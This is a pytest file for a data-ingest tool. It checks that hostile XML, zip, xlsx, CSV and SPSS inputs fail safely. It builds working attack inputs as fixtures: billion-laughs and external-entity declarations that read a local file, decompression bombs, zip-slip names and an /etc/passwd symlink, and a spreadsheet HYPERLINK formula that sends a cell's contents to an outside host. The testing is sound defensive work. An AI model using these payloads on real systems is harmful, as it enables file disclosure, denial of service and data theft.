"""Files made to attack their reader: each attack fails with a typed error, reads no local file,
writes nothing outside the output folder and inflates nothing without bound.

The attacks are the standard ones: XML external entities and entity expansion (OWASP XXE
Prevention Cheat Sheet; the "billion laughs" of CVE-2003-1564), zip decompression bombs, and
zip-slip member names (``../``, absolute paths, symbolic links).
"""

from __future__ import annotations

import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from caresurvey.errors import InputError
from caresurvey.ingest.common import Source
from caresurvey.ingest.ledger import Ledger
from caresurvey.ingest.refi_qda import read_refi_qda
from caresurvey.ingest.ssda903 import read_ssda903_xml
from caresurvey.ingest.tabular import read_xlsx_table
from caresurvey.ingest.untrusted import MAX_COMPRESSION_RATIO
from caresurvey.pseudonym import Pseudonymiser
from tests.ingest.test_refi_qda import SOURCE, TEXT, project

PSEUDONYMISE = Pseudonymiser(b"a test key of 24 bytes..")
SECRET = "caresurvey-test-secret-never-to-be-read"

LAUGHS = ('<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)) + "]>")
"""Nine levels of tenfold entities: a thousand million characters from a few hundred bytes."""


def _external(secret_file: Path) -> str:
    return f'<!DOCTYPE r [<!ENTITY x SYSTEM "{secret_file.as_uri()}">]>'


def _source(path: Path, **kwargs) -> Source:
    return Source(path=path, display=path.name, pseudonymise=PSEUDONYMISE, **kwargs)


@pytest.fixture()
def secret_file(tmp_path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


@pytest.mark.parametrize("doctype", ["laughs", "external"])
def test_ssda903_xml_with_entities_is_refused_unread(tmp_path, secret_file, doctype):
    declaration = LAUGHS if doctype == "laughs" else _external(secret_file)
    entity = "&i;" if doctype == "laughs" else "&x;"
    path = tmp_path / "return.xml"
    path.write_text(f'<?xml version="1.0"?>{declaration}<EXPSSDA903><CHILD><HEADER><CHILDID>{entity}</CHILDID>'
                    "<SEX>1</SEX></HEADER></CHILD></EXPSSDA903>")
    with pytest.raises(InputError) as caught:
        read_ssda903_xml(_source(path, la="LA1"), Ledger())
    assert caught.value.rule == "unsafe-xml" and SECRET not in str(caught.value)


def _qdpx(path: Path, members: dict[str, bytes | str], links: tuple[str, ...] = ()) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        for name in links:  # a member marked as a symbolic link, its "content" the target
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, "/etc/passwd")
    return path


@pytest.mark.parametrize("doctype", ["laughs", "external"])
def test_a_project_with_entities_is_refused_unread(tmp_path, secret_file, doctype):
    xml, _ = project()
    declaration = LAUGHS if doctype == "laughs" else _external(secret_file)
    xml = xml.replace(b"?>", b"?>" + declaration.encode(), 1).replace(b'name="t"', b'name="&i;"' if doctype == "laughs"
                                                                        else b'name="&x;"')
    path = _qdpx(tmp_path / "p.qdpx", {"project.qde": xml, f"sources/{SOURCE}.txt": TEXT})
    with pytest.raises(InputError) as caught:
        read_refi_qda(_source(path), Ledger())
    assert caught.value.rule == "unsafe-xml" and SECRET not in str(caught.value)


def test_a_decompression_bomb_is_refused_before_it_inflates(tmp_path):
    xml, _ = project()
    padding = b" " * (MAX_COMPRESSION_RATIO * 50_000)  # deflates about a thousandfold
    path = _qdpx(tmp_path / "bomb.qdpx", {"project.qde": xml.replace(b"</Project>", padding + b"</Project>"),
                                          f"sources/{SOURCE}.txt": TEXT})
    with pytest.raises(InputError) as caught:
        read_refi_qda(_source(path), Ledger())
    assert caught.value.rule == "archive-bomb" and "project.qde" in str(caught.value)


def test_member_names_that_climb_out_or_link_out_write_and_read_nothing(tmp_path, secret_file):
    """A zip-slip archive: its members are never extracted, so their names lead nowhere; and a
    source pointing outside the archive is missing, not read from disk."""
    xml, _ = project()
    outside = tmp_path / "outside"
    outside.mkdir()
    inside = tmp_path / "study" / "raw"
    inside.mkdir(parents=True)
    path = _qdpx(inside / "p.qdpx", {"project.qde": xml, f"sources/{SOURCE}.txt": TEXT,
                                     "../../outside/climbed.txt": "x", str(outside / "absolute.txt"): "x"},
                 links=(f"sources/{SOURCE}-link.txt",))
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    codings = read_refi_qda(_source(path), Ledger())["codings"]
    assert len(codings) == 1
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before
    # a source whose path points at a local file is not found in the archive, and nothing is read
    for target in (secret_file.as_uri(), f"internal://../../{secret_file.name}", str(secret_file)):
        pointing = xml.replace(f"internal://{SOURCE}.txt".encode(), target.encode())
        hostile = _qdpx(tmp_path / "pointing.qdpx", {"project.qde": pointing, f"sources/{SOURCE}.txt": TEXT})
        with pytest.raises(InputError) as caught:
            read_refi_qda(_source(hostile), Ledger())
        assert caught.value.rule == "missing-source" and SECRET not in str(caught.value)


def _workbook(path: Path) -> Path:
    book = openpyxl.Workbook()
    book.active.append(["CHILD", "SEX"])
    book.active.append(["1", "2"])
    book.save(path)
    return path


def _rewrite_member(path: Path, name: str, change) -> None:
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    members[name] = change(members[name])
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)


@pytest.mark.parametrize("doctype", ["laughs", "external"])
def test_a_workbook_sheet_with_entities_is_refused_unread(tmp_path, secret_file, doctype):
    path = _workbook(tmp_path / "book.xlsx")
    declaration = (LAUGHS if doctype == "laughs" else _external(secret_file)).encode()
    _rewrite_member(path, "xl/worksheets/sheet1.xml",
                    lambda xml: xml.replace(b"?>", b"?>" + declaration, 1) if xml.startswith(b"<?xml")
                    else declaration + xml)
    with pytest.raises(InputError) as caught:
        read_xlsx_table(path)
    assert caught.value.rule == "unsafe-xml" and SECRET not in str(caught.value)


def test_a_workbook_bomb_is_refused_before_openpyxl_opens_it(tmp_path):
    path = _workbook(tmp_path / "book.xlsx")
    _rewrite_member(path, "xl/worksheets/sheet1.xml",
                    lambda xml: xml.replace(b"</worksheet>", b" " * (MAX_COMPRESSION_RATIO * 50_000) + b"</worksheet>"))
    with pytest.raises(InputError) as caught:
        read_xlsx_table(path)
    assert caught.value.rule == "archive-bomb"


def test_the_cli_reports_an_attack_as_one_message_without_a_traceback(tmp_path, secret_file):
    path = tmp_path / "return.xml"
    path.write_text(f'<?xml version="1.0"?>{_external(secret_file)}<EXPSSDA903><CHILD><HEADER><CHILDID>&x;'
                    "</CHILDID></HEADER></CHILD></EXPSSDA903>")
    result = subprocess.run(
        [sys.executable, "-m", "caresurvey", "ingest", "--format", "ssda903-xml", str(path), "--la", "LA1",
         "--out", str(tmp_path / "out")],
        capture_output=True, text=True, env={"CARESURVEY_KEY": "k" * 32, "PATH": "/usr/bin:/bin"}, check=False)
    assert result.returncode == 2, result.stderr
    assert "unsafe-xml" in result.stderr and "Traceback" not in result.stderr and SECRET not in result.stderr
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_a_source_that_is_not_utf8_is_one_clear_error(tmp_path):
    xml, _ = project()
    path = _qdpx(tmp_path / "p.qdpx", {"project.qde": xml, f"sources/{SOURCE}.txt": b"caf\xe9 \xff"})
    with pytest.raises(InputError) as caught:
        read_refi_qda(_source(path), Ledger())
    assert caught.value.rule == "encoding"


def test_a_formula_in_a_raw_cell_reaches_the_quarantine_as_text(tmp_path):
    import pandas as pd

    from caresurvey.ingest.pipeline import ingest_files

    path = tmp_path / "header.csv"
    path.write_text('CHILD,SEX,DOB,ETHNIC\n1,"=HYPERLINK(""http://example.org/?""&A1,""x"")",31/01/2010,WBRI\n')
    ingest_files("ssda903-csv", [path], tmp_path / "out", key=b"a test key of 24 bytes..", la="LA1", accept_losses=True)
    quarantine = pd.read_csv(tmp_path / "out" / "quarantine.csv", dtype=str)
    # opened in a spreadsheet, the analyst sees the text: the leading apostrophe stops it running
    assert quarantine["value"].tolist() == ["'=HYPERLINK(\"http://example.org/?\"&A1,\"x\")"]
    assert not quarantine.apply(lambda column: column.str.match(r"[=+@\t\r]")).any().any()


def test_an_spss_file_that_crashes_its_parser_is_one_typed_error():
    # pyreadstat (C) dies with SIGSEGV on this file: parsed in a child process, the crash is an error
    hostile = Path(__file__).resolve().parents[1] / "data" / "hostile" / "crashes_readstat.sav"
    from caresurvey.ingest.spss import read_spss

    with pytest.raises(InputError) as caught:
        read_spss(_source(hostile, group="Team manager"), Ledger())
    assert caught.value.rule == "unreadable-sav" and "signal" in caught.value.message
